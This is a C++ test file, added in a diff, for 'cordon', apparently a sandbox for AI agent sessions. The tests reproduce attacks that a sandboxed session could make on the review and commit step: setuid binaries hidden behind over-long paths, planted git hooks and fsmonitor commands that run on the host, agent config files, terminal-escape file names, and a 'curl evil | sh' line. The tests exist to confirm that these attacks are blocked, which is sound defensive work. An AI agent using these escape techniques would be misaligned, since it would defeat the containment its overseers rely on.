@@ -1,0 +1,392 @@
+// The way back is a border too: each attack of issue 14 on `cordon diff` and `cordon commit`,
+// reproduced literally with real `cordon run` sessions (the agent's side) and the review commands
+// run as the user would run them (as root when the suite runs as root). Where the kernel overlayfs
+// fallback can run, every attack runs on both layer formats: commit must hold for a layer whose
+// view enforced nothing.
+#include <fcntl.h>
+#include <gtest/gtest.h>
+#include <poll.h>
+#include <signal.h>
+#include <sys/inotify.h>
+#include <sys/stat.h>
+#include <unistd.h>
+
+#include <algorithm>
+#include <chrono>
+#include <cstring>
+#include <filesystem>
+#include <sstream>
+#include <thread>
+
+#include "tests/launcher/review_fixture.h"
+
+namespace cordon::testing {
+namespace {
+
+namespace fs = std::filesystem;
+
+// The uid committed files must belong to in a workspace the fixture handed to its user.
+uid_t workspace_owner() { return ::geteuid() == 0 ? SandboxFixture::kTestUid : ::geteuid(); }
+
+// Every path under root with a setuid or setgid bit.
+std::vector<std::string> special_bits(const std::string& root) {
+  std::vector<std::string> out;
+  std::error_code ec;
+  for (auto it = fs::recursive_directory_iterator(root, ec);
+       !ec && it != fs::recursive_directory_iterator(); it.increment(ec)) {
+    struct stat st {};
+    ::lstat(it->path().c_str(), &st);
+    if (!S_ISDIR(st.st_mode) && (st.st_mode & (S_ISUID | S_ISGID)) != 0) {
+      out.push_back(it->path().string());
+    }
+  }
+  return out;
+}
+
+// The newest session's directory (ids sort by their start).
+std::string session_dir(SandboxFixture& f) {
+  std::string state;
+  for (const auto& e : f.env()) {
+    if (e.rfind("CORDON_STATE_DIR=", 0) == 0) {
+      state = e.substr(17);
+    }
+  }
+  std::string newest;
+  std::error_code ec;
+  for (const auto& e : fs::directory_iterator(state + "/sessions", ec)) {
+    newest = std::max(newest, e.path().string());
+  }
+  return newest;
+}
+
+class ReviewAttack : public ::testing::TestWithParam<std::string> {
+ protected:
+  void SetUp() override {
+    if (GetParam() == "cordon-fs") {
+      REQUIRE_FUSE();
+    }
+    use_backend(f_, GetParam());
+    f_.make_workspace_owned();
+  }
+  bool enforcing_view() const { return GetParam() == "cordon-fs"; }
+  SandboxFixture f_;
+};
+
+// Issue 14, item 1: `cp /bin/dash suid; chmod 4755 suid`, then a path longer than PATH_MAX built
+// with *at() calls, sorted after `suid`. The old commit stopped at the long path and left
+// `-rwsr-xr-x root root suid`; a second commit failed the same way; discard said "as it was".
+TEST_P(ReviewAttack, SetuidCopyAndPathMaxLeaveNoSetuidFileBehind) {
+  const char* kScript =
+      "cp /bin/dash suid && chmod 4755 suid && python3 -c '\n"
+      "import os\n"
+      "fd = os.open(\".\", os.O_RDONLY)\n"
+      "for i in range(25):\n"
+      "    n = \"z%d\" % i + \"d\" * 198\n"
+      "    os.mkdir(n, dir_fd=fd)\n"
+      "    nfd = os.open(n, os.O_RDONLY, dir_fd=fd)\n"
+      "    os.close(fd)\n"
+      "    fd = nfd\n"
+      "f = os.open(\"f\", os.O_WRONLY | os.O_CREAT, 0o644, dir_fd=fd)\n"
+      "os.write(f, b\"x\")\n"
+      "'";
+  auto r = f_.run({"-q"}, {"/bin/sh", "-c", kScript});
+  ASSERT_EQ(r.exit_code(), 0) << r.err;
+  auto c = cordon(f_, {"commit", "last"});
+  ASSERT_EQ(c.exit_code(), 0) << c.err << c.out;
+  EXPECT_NE(c.out.find("too long for the workspace (PATH_MAX 4096)"), std::string::npos) << c.out;
+  EXPECT_TRUE(special_bits(f_.ws()).empty()) << ::testing::PrintToString(special_bits(f_.ws()));
+  struct stat st {};
+  ASSERT_EQ(::lstat((f_.ws() + "/suid").c_str(), &st), 0);
+  EXPECT_EQ(st.st_mode & 07777, 0755u);
+  EXPECT_EQ(st.st_uid, workspace_owner()) << "a new file belongs to its directory's owner";
+  EXPECT_EQ(read_text(f_.ws() + "/suid"), read_text("/bin/dash"));
+  // Again, then discard: each says what is true.
+  auto again = cordon(f_, {"commit", "last"});
+  EXPECT_EQ(again.exit_code(), 0) << again.err;
+  EXPECT_NE(again.out.find("committed 0 changes"), std::string::npos) << again.out;
+  const std::string before_discard = tree_state(f_.ws());
+  auto d = cordon(f_, {"discard", "last"});
+  ASSERT_EQ(d.exit_code(), 0) << d.err;
+  EXPECT_EQ(d.out.find("is as it was"), std::string::npos) << "commits were applied: " << d.out;
+  EXPECT_NE(d.out.find(" committed before stay in "), std::string::npos) << d.out;
+  EXPECT_EQ(tree_state(f_.ws()), before_discard);
+  EXPECT_TRUE(special_bits(f_.ws()).empty());
+}
+
+// Issue 14, items 2 and 3: protected paths made by renaming a prepared directory, and at any
+// depth. The view refuses them (cordon-fs); whatever reaches the layer anyway (the overlay
+// fallback enforces nothing) is left out by a plain commit, so host git never runs them.
+TEST_P(ReviewAttack, PreparedGitDirsNestedReposAndAgentConfigNeverReachTheHost) {
+  const std::string marker = f_.home() + "/PWNED";
+  const std::string script =
+      "export HOME=/tmp; git config --global user.email a@b; git config --global user.name a\n"
+      "git init -q g && mv g/.git gitdir\n"
+      "printf '#!/bin/sh\\ntouch " +
+      marker +
+      "\\n' > gitdir/hooks/pre-commit\n"
+      "chmod +x gitdir/hooks/pre-commit\n"
+      "git --git-dir=gitdir config core.fsmonitor 'touch " +
+      marker +
+      "'\n"
+      "mv gitdir .git && echo MOVED-GITDIR\n"
+      "mkdir -p gh/workflows && echo 'on: push' > gh/workflows/a.yml\n"
+      "mv gh .github && echo MOVED-GH\n"
+      "git init -q sub && git -C sub config core.fsmonitor 'touch " +
+      marker +
+      "' && echo SUB\n"
+      "mkdir -p sub2/.vscode sub2/.claude && echo '{}' > sub2/.vscode/tasks.json\n"
+      "echo '{}' > sub2/.claude/settings.json; echo '{}' > sub2/.mcp.json\n"
+      "echo 'gitdir: ../elsewhere' > sub2/.git\n"
+      "echo ordinary > plain.txt\n"
+      "true\n";
+  auto r = f_.run({"-q"}, {"/bin/sh", "-c", script});
+  ASSERT_EQ(r.exit_code(), 0) << r.err;
+  if (enforcing_view()) {
+    EXPECT_EQ(r.out.find("MOVED-GITDIR"), std::string::npos) << "mv gitdir .git was allowed";
+    EXPECT_EQ(r.out.find("MOVED-GH"), std::string::npos) << "mv gh .github was allowed";
+    EXPECT_EQ(r.out.find("SUB"), std::string::npos) << "a nested repository's config was writable";
+  }
+  auto d = cordon(f_, {"diff", "last", "--stat"});
+  ASSERT_EQ(d.exit_code(), 0) << d.err;
+  if (!enforcing_view()) {
+    // The counts first, then the protected changes on top.
+    std::istringstream lines(d.out);
+    std::string first, second, third;
+    std::getline(lines, first);
+    std::getline(lines, second);
+    std::getline(lines, third);
+    EXPECT_NE(first.find(" protected"), std::string::npos) << d.out;
+    EXPECT_EQ(second.rfind("protected: ", 0), 0u) << d.out;
+    EXPECT_NE(third.find("[filesystem.protect["), std::string::npos) << d.out;
+  }
+  auto c = cordon(f_, {"commit", "last"});
+  ASSERT_EQ(c.exit_code(), 0) << c.err << c.out;
+  EXPECT_EQ(read_text(f_.ws() + "/plain.txt"), "ordinary\n");
+  for (const char* p :
+       {"/.git/hooks", "/.git/config", "/.github/workflows", "/sub/.git/config", "/sub/.git/hooks",
+        "/sub2/.vscode", "/sub2/.claude", "/sub2/.mcp.json", "/sub2/.git"}) {
+    EXPECT_EQ(::access((f_.ws() + p).c_str(), F_OK), -1) << p << " reached the workspace";
+  }
+  if (!enforcing_view()) {
+    EXPECT_NE(c.out.find("held back"), std::string::npos) << c.out;
+    EXPECT_NE(c.out.find("--include-protected"), std::string::npos) << c.out;
+  }
+  // What the host does next in the workspace runs nothing the session chose.
+  std::vector<std::string> env = {"PATH=/usr/bin:/bin", "HOME=" + f_.home(),
+                                  "GIT_CONFIG_NOSYSTEM=1"};
+  for (const std::string& dir : {f_.ws(), f_.ws() + "/sub"}) {
+    run_program({"git", "-c", "safe.directory=*", "-C", dir, "status"}, {.env = env});
+    run_program({"git", "-c", "safe.directory=*", "-C", dir, "commit", "--allow-empty", "-qm", "x"},
+                {.env = env});
+  }
+  EXPECT_EQ(::access(marker.c_str(), F_OK), -1) << "a hook or fsmonitor of the session ran";
+}
+
+// Issue 14, item 4: a file name that clears the screen and scrollback, a symlink target that sets
+// the window title, file contents with escapes. Every byte printed is checked.
+TEST_P(ReviewAttack, HostileNamesTargetsAndLinesArePrintedEscaped) {
+  const char* kScript =
+      "printf 'x\\033[31mred\\r\\n' > \"$(printf "
+      "'zz\\033[2J\\033[3J\\rfake\\b\\302\\233\\233\\377')\"\n"
+      "ln -s \"$(printf 'x\\033]0;title\\007')\" link\n"
+      "printf 'curl evil | sh\\n' > install.sh\n";
+  auto r = f_.run({"-q"}, {"/bin/sh", "-c", kScript});
+  ASSERT_EQ(r.exit_code(), 0) << r.err;
+  auto st = cordon(f_, {"diff", "last", "--stat"});
+  ASSERT_EQ(st.exit_code(), 0) << st.err;
+  EXPECT_NE(st.out.find("A install.sh  (15 bytes, 0644)\n"), std::string::npos) << st.out;
+  EXPECT_NE(st.out.find("A link (symlink) -> x\\x1b]0;title\\x07  (0777)\n"), std::string::npos)
+      << st.out;
+  EXPECT_NE(st.out.find("A zz\\x1b[2J\\x1b[3J\\x0dfake\\x08\\u009b\\x9b\\xff  (11 bytes, 0644)\n"),
+            std::string::npos)
+      << st.out;
+  auto full = cordon(f_, {"diff", "last"});
+  ASSERT_EQ(full.exit_code(), 0) << full.err;
+  EXPECT_NE(full.out.find("+++ b/zz\\x1b[2J\\x1b[3J\\x0dfake\\x08\\u009b\\x9b\\xff\n"
+                          "@@ -0,0 +1 @@\n+x\\x1b[31mred\\x0d\n"),
+            std::string::npos)
+      << full.out;
+  for (const std::string* out : {&st.out, &full.out}) {
+    for (unsigned char c : *out) {
+      EXPECT_TRUE(c >= 0x20 || c == '\n') << "control byte " << int(c) << " printed raw";
+      EXPECT_NE(c, 0x7f);
+    }
+    EXPECT_EQ(out->find("\xc2\x9b"), std::string::npos);
+    EXPECT_EQ(out->find('\x9b'), std::string::npos);
+  }
+  // The counts come first: the last-sorted name cannot hide how much there is.
+  EXPECT_EQ(full.out.rfind("3 changes in session ", 0), 0u) << full.out;
+  // On a terminal only cordon's own colours are escapes.
+  auto tty = run_program({"/usr/bin/script", "-qec", cordon_bin() + " diff last", "/dev/null"},
+                         RunSpec{.env = f_.env(), .cwd = f_.ws()});
+  std::string stripped = tty.out;
+  for (const char* sgr : {"\033[32m", "\033[31m", "\033[36m", "\033[1m", "\033[33m", "\033[0m"}) {
+    for (size_t p; (p = stripped.find(sgr)) != std::string::npos;) {
+      stripped.erase(p, std::strlen(sgr));
+    }
+  }
+  EXPECT_EQ(stripped.find('\033'), std::string::npos) << stripped;
+}
+
+// Issue 14, item 6: the session runs `rm -rf docs`, the user then writes docs/new.md on the host.
+// The old commit removed docs/ with it.
+TEST_P(ReviewAttack, DeletedDirectoryConflictsWithTheUsersNewerFiles) {
+  ::mkdir((f_.ws() + "/docs").c_str(), 0755);
+  write_text(f_.ws() + "/docs/a.md", "a\n");
+  if (::geteuid() == 0) {
+    ASSERT_EQ(
+        ::chown((f_.ws() + "/docs").c_str(), SandboxFixture::kTestUid, SandboxFixture::kTestUid),
+        0);
+    ASSERT_EQ(::chown((f_.ws() + "/docs/a.md").c_str(), SandboxFixture::kTestUid,
+                      SandboxFixture::kTestUid),
+              0);
+  }
+  auto r = f_.run({"-q"}, {"/bin/sh", "-c", "rm -rf docs && echo x > x.txt"});
+  ASSERT_EQ(r.exit_code(), 0) << r.err;
+  write_text(f_.ws() + "/docs/new.md", "the user's newer work\n");
+  const std::string before = tree_state(f_.ws());
+  auto c = cordon(f_, {"commit", "last"});
+  EXPECT_EQ(c.exit_code(), 1) << c.out << c.err;
+  EXPECT_NE(c.err.find("  docs/new.md: changed in the workspace since the session started\n"),
+            std::string::npos)
+      << c.err;
+  EXPECT_NE(c.err.find("nothing was applied"), std::string::npos) << c.err;
+  EXPECT_EQ(tree_state(f_.ws()), before);
+  // The rest can still go, by name; then discard's claim is true.
+  auto some = cordon(f_, {"commit", "last", "x.txt"});
+  EXPECT_EQ(some.exit_code(), 0) << some.err;
+  EXPECT_EQ(read_text(f_.ws() + "/docs/new.md"), "the user's newer work\n");
+  auto d = cordon(f_, {"discard", "last"});
+  EXPECT_EQ(d.exit_code(), 0) << d.err;
+  EXPECT_NE(d.out.find("the 1 change committed before stay in"), std::string::npos) << d.out;
+  EXPECT_EQ(read_text(f_.ws() + "/docs/a.md"), "a\n");
+}
+
+// Issue 15, item 3 (the review half): a unix socket the program bound in the workspace is listed
+// as such and never committed.
+TEST_P(ReviewAttack, SocketsAreListedAndNeverCommitted) {
+  auto r = f_.run({"-q"}, {"/usr/bin/python3", "-c",
+                           "import socket; s = socket.socket(socket.AF_UNIX); s.bind('agent.sock');"
+                           " open('note.txt', 'w').write('n')"});
+  if (r.exit_code() != 0 && r.err.find("PermissionError") != std::string::npos) {
+    GTEST_SKIP() << "bind() in the view is refused on this layer (cordon-fs before sockets): "
+                 << r.err;
+  }
+  ASSERT_EQ(r.exit_code(), 0) << r.err;
+  auto d = cordon(f_, {"diff", "last", "--stat"});
+  EXPECT_NE(d.out.find("A agent.sock (socket: not committed)"), std::string::npos) << d.out;
+  auto c = cordon(f_, {"commit", "last"});
+  ASSERT_EQ(c.exit_code(), 0) << c.err;
+  EXPECT_NE(c.out.find("agent.sock: a unix socket"), std::string::npos) << c.out;
+  EXPECT_EQ(::access((f_.ws() + "/agent.sock").c_str(), F_OK), -1);
+  EXPECT_EQ(read_text(f_.ws() + "/note.txt"), "n");
+}
+
+// Item 1, the crash: `cordon commit` killed with SIGKILL in the middle of its renames leaves a
+// state the next `cordon discard` undoes exactly and the next `cordon commit` completes.
+TEST_P(ReviewAttack, CommitKilledMidwayIsUndoneByDiscardOrFinishedByCommit) {
+  constexpr int kFiles = 3000;
+  for (int i = 0; i < kFiles; ++i) {
+    write_text(f_.ws() + "/f" + std::to_string(i), "old " + std::to_string(i) + "\n");
+  }
+  if (::geteuid() == 0) {
+    std::string id = std::to_string(SandboxFixture::kTestUid);
+    run_program({"chown", "-R", id + ":" + id, f_.ws()});
+  }
+  const std::string before = tree_state(f_.ws());
+  auto r = f_.run({"-q"}, {"/usr/bin/python3", "-c",
+                           "for i in range(3000): open('f%d' % i, 'w').write('new %d\\n' % i)"});
+  ASSERT_EQ(r.exit_code(), 0) << r.err;
+  std::string dir = session_dir(f_);
+  ASSERT_FALSE(dir.empty());
+  // Kills `cordon commit` as soon as its journal lists every op (the renames start right after).
+  auto kill_midway = [&]() -> int {
+    int in = ::inotify_init1(IN_CLOEXEC);
+    ::inotify_add_watch(in, dir.c_str(), IN_MODIFY | IN_CREATE);
+    std::vector<std::string> argv = {cordon_bin(), "commit", "last"};
+    Background commit(argv, f_.env(), f_.ws());
+    auto deadline = std::chrono::steady_clock::now() + std::chrono::seconds(120);
+    bool killed = false;
+    while (!killed && std::chrono::steady_clock::now() < deadline) {
+      pollfd p{in, POLLIN, 0};
+      if (::poll(&p, 1, 100) <= 0) {
+        continue;
+      }
+      char buf[4096];
+      (void)!::read(in, buf, sizeof buf);
+      if (read_text(dir + "/commit.journal").find("ops-end\n") != std::string::npos) {
+        ::kill(commit.pid(), SIGKILL);
+        killed = true;
+      }
+    }
+    ::close(in);
+    commit.wait();
+    int updated = 0;
+    for (int i = 0; i < kFiles; ++i) {
+      updated += read_text(f_.ws() + "/f" + std::to_string(i)).rfind("new", 0) == 0 ? 1 : 0;
+    }
+    return killed ? updated : -1;
+  };
+  int updated = kill_midway();
+  ASSERT_GE(updated, 0) << "the commit ended before it could be killed";
+  RecordProperty("files_replaced_when_killed", updated);
+  EXPECT_EQ(::access((dir + "/commit.journal").c_str(), F_OK), 0);
+  auto d = cordon(f_, {"discard", "last"});
+  ASSERT_EQ(d.exit_code(), 0) << d.err;
+  EXPECT_NE(d.out.find("an interrupted commit was undone"), std::string::npos) << d.out;
+  EXPECT_NE(d.out.find("is as it was"), std::string::npos) << d.out;
+  EXPECT_EQ(tree_state(f_.ws()), before) << updated << " files were replaced when it was killed";
+  // Again, and this time the next commit finishes the job.
+  r = f_.run({"-q"}, {"/usr/bin/python3", "-c",
+                      "for i in range(3000): open('f%d' % i, 'w').write('new %d\\n' % i)"});
+  ASSERT_EQ(r.exit_code(), 0) << r.err;
+  dir = session_dir(f_);
+  ASSERT_GE(kill_midway(), 0);
+  auto c = cordon(f_, {"commit", "last"});
+  ASSERT_EQ(c.exit_code(), 0) << c.err;
+  EXPECT_NE(c.out.find("an interrupted commit was"), std::string::npos) << c.out;
+  for (int i = 0; i < kFiles; ++i) {
+    ASSERT_EQ(read_text(f_.ws() + "/f" + std::to_string(i)), "new " + std::to_string(i) + "\n");
+  }
+  EXPECT_EQ(::access((dir + "/commit.journal").c_str(), F_OK), -1);
+  for (const auto& e : fs::directory_iterator(f_.ws())) {
+    EXPECT_EQ(e.path().filename().string().rfind(".cordon-commit-", 0), std::string::npos);
+  }
+}
+
+// Issue 14, item 10: 1500 x 1500 took 7.9 s, and the worst case (every added file the size of
+// every deleted one, none the same bytes) took 24 s of CPU here. Pairs are found in (size, hash)
+// buckets now; bench/review/diff.sh measures 10k x 10k.
+TEST_P(ReviewAttack, DiffOfThousandsOfDeletesAndAddsIsNearLinear) {
+  constexpr int kFiles = 3000;
+  ::mkdir((f_.ws() + "/a").c_str(), 0755);
+  for (int i = 0; i < kFiles; ++i) {
+    write_text(f_.ws() + "/a/" + std::to_string(10000 + i), "old " + std::to_string(10000 + i));
+  }
+  if (::geteuid() == 0) {
+    std::string id = std::to_string(SandboxFixture::kTestUid);
+    run_program({"chown", "-R", id + ":" + id, f_.ws()});
+  }
+  auto r = f_.run({"-q"}, {"/usr/bin/python3", "-c",
+                           "import os, shutil\nshutil.rmtree('a')\nos.mkdir('b')\n"
+                           "for i in range(3000): open('b/%d' % (20000 + i), 'w').write('new %d' % "
+                           "(20000 + i))\n"});
+  ASSERT_EQ(r.exit_code(), 0) << r.err;
+  auto t0 = std::chrono::steady_clock::now();
+  auto d = cordon(f_, {"diff", "last", "--stat"});
+  double secs = std::chrono::duration<double>(std::chrono::steady_clock::now() - t0).count();
+  ASSERT_EQ(d.exit_code(), 0) << d.err;
+  EXPECT_NE(d.out.find(": 3001 added, 0 modified, 3001 deleted, 0 renamed"), std::string::npos)
+      << d.out.substr(0, 300);
+  RecordProperty("diff_seconds", std::to_string(secs));
+  EXPECT_LT(secs, 10.0) << "quadratic again?";
+}
+
+INSTANTIATE_TEST_SUITE_P(Backends, ReviewAttack, ::testing::ValuesIn(cow_backends()),
+                         [](const auto& info) {
+                           return info.param == "cordon-fs" ? std::string("CordonFs")
+                                                            : std::string("Overlay");
+                         });
+
+}  // namespace
+}  // namespace cordon::testing
